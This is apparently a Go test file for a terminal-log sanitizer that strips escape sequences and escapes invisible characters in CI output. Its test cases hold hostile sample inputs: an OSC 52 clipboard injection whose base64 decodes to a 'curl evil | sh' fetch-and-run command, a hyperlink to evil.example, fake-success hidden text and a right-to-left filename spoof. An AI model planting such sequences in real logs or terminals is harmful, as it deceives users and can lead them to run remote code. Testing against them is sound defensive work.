package render

import (
	"bytes"
	"strings"
	"testing"
)

func termLog(in string, color bool) string {
	var b bytes.Buffer
	t := NewTermLog(&b, color)
	t.Write([]byte(in))
	t.Flush()
	return b.String()
}

// Each class of sequence a hostile log may send a terminal is dropped;
// text, colours (when on), newlines, tabs and carriage returns pass.
func TestTermLogDropsControlSequences(t *testing.T) {
	cases := []struct{ name, in, color, plain string }{
		{"text", "a\tb\r\nc\n", "a\tb\r\nc\n", "a\tb\r\nc\n"},
		{"sgr", "\x1b[1;31mred\x1b[0m \x1b[m\n", "\x1b[1;31mred\x1b[0m \x1b[m\n\x1b[0m", "red \n"},
		{"256 colours", "\x1b[38;5;208mo\x1b[0m", "\x1b[38;5;208mo\x1b[0m\x1b[0m", "o"},
		// A log ending in hidden (or black on black) text is reset at
		// its end, so it cannot hide refci's own summary after it.
		{"hidden text left on", "fake: success\x1b[8m", "fake: success\x1b[8m\x1b[0m", "fake: success"},
		{"cursor moves", "a\x1b[2Ab\x1b[10;1Hc\x1b[2J\x1b[K\x1b7\x1b8d", "abcd", "abcd"},
		{"private modes", "\x1b[?1049h\x1b[?25lx\x1b[?1000h", "x", "x"},
		{"sgr with intermediate", "\x1b[1 mx", "x", "x"},
		{"title (OSC 0, BEL)", "\x1b]0;pwned\x07x", "x", "x"},
		{"title (OSC 2, ST)", "\x1b]2;pwned\x1b\\x", "x", "x"},
		{"hyperlink OSC 8", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\", "click", "click"},
		{"clipboard OSC 52", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07x", "x", "x"},
		{"DCS", "\x1bP+q544e\x1b\\x", "x", "x"},
		{"APC PM SOS", "\x1b_a\x1b\\\x1b^b\x1b\\\x1bXc\x1b\\x", "x", "x"},
		{"charset", "\x1b(0x\x1b(B", "x", "x"},
		{"C0 controls", "a\x00b\x07c\x08d\x0be\x0cf\x7fg", "abcdefg", "abcdefg"},
		{"C1 in UTF-8", "a\u009b2Jb\u009d0;t\u009cc\u0085d", "a2Jb0;tcd", "a2Jb0;tcd"},
		{"8-bit CSI byte", "a\x9b2Jb", "a\ufffd2Jb", "a\ufffd2Jb"},
		{"invalid UTF-8", "\xff\xfe ok é", "\ufffd\ufffd ok é", "\ufffd\ufffd ok é"},
		{"unterminated OSC", "x\x1b]52;c;AAAA", "x", "x"},
		{"cut character at the end", "x\xc3", "x\ufffd", "x\ufffd"},
		{"lone ESC at the end", "x\x1b", "x", "x"},
	}
	for _, c := range cases {
		if got := termLog(c.in, true); got != c.color {
			t.Errorf("%s, colour on: %q, want %q", c.name, got, c.color)
		}
		if got := termLog(c.in, false); got != c.plain {
			t.Errorf("%s, colour off: %q, want %q", c.name, got, c.plain)
		}
	}
}

// A followed log arrives in pieces: cut anywhere, it comes out the same.
func TestTermLogAcrossWrites(t *testing.T) {
	in := "ok \x1b[32mgreen\x1b[0m é€😀 \x1b]52;c;QUFB\x1b\\ \x1b]0;t\x07 \x1b[2J\u009b end\xff\n"
	whole := termLog(in, true)
	if strings.Contains(whole, "52;") || strings.Contains(whole, "\x1b[2J") || !strings.Contains(whole, "\x1b[32mgreen") {
		t.Fatalf("whole: %q", whole)
	}
	for cut := 0; cut <= len(in); cut++ {
		for cut2 := cut; cut2 <= len(in); cut2 += 3 {
			var b bytes.Buffer
			tl := NewTermLog(&b, true)
			for _, part := range []string{in[:cut], in[cut:cut2], in[cut2:]} {
				if n, err := tl.Write([]byte(part)); n != len(part) || err != nil {
					t.Fatalf("Write = %d, %v", n, err)
				}
			}
			tl.Flush()
			if b.String() != whole {
				t.Fatalf("cut at %d and %d: %q, want %q", cut, cut2, b.String(), whole)
			}
		}
	}
}

// A sequence that never ends is not held without bound.
func TestTermLogBoundsHeldSequence(t *testing.T) {
	var b bytes.Buffer
	tl := NewTermLog(&b, true)
	tl.Write([]byte("\x1b]52;c;" + strings.Repeat("A", 2*maxHeld)))
	if len(tl.held) != 0 {
		t.Errorf("holds %d bytes", len(tl.held))
	}
	tl.Write([]byte("\nnext\n"))
	if !strings.HasSuffix(b.String(), "next\n") {
		t.Errorf("after a long unterminated sequence: %q", b.String())
	}
}

func TestSafeEscapesInvisibleCharacters(t *testing.T) {
	for in, want := range map[string]string{
		"plain é":             "plain é",
		"a\x1b[2Jb":           `a\x1b[2Jb`,
		"evil\u202etxt.exe":   `evil\u202etxt.exe`,
		"zero\u200bwidth":     `zero\u200bwidth`,
		"line\u2028separator": `line\u2028separator`,
		"c1\u009bx":           `c1\x9bx`,
	} {
		if got := Safe(in); got != want {
			t.Errorf("Safe(%q) = %q, want %q", in, got, want)
		}
	}
}

// SafeLines keeps the lines and tabs of a message and escapes the rest as
// Safe does: a remote's text quoted in an error cannot move the cursor.
func TestSafeLines(t *testing.T) {
	in := "remote: fatal\x1b[2J: no\tway\nremote: \u202eevil\r\n"
	want := "remote: fatal\\x1b[2J: no\tway\nremote: \\u202eevil\\x0d\n"
	if got := SafeLines(in); got != want {
		t.Errorf("SafeLines(%q) = %q, want %q", in, got, want)
	}
	if got := SafeLines("plain\nlines"); got != "plain\nlines" {
		t.Errorf("clean text changed: %q", got)
	}
}
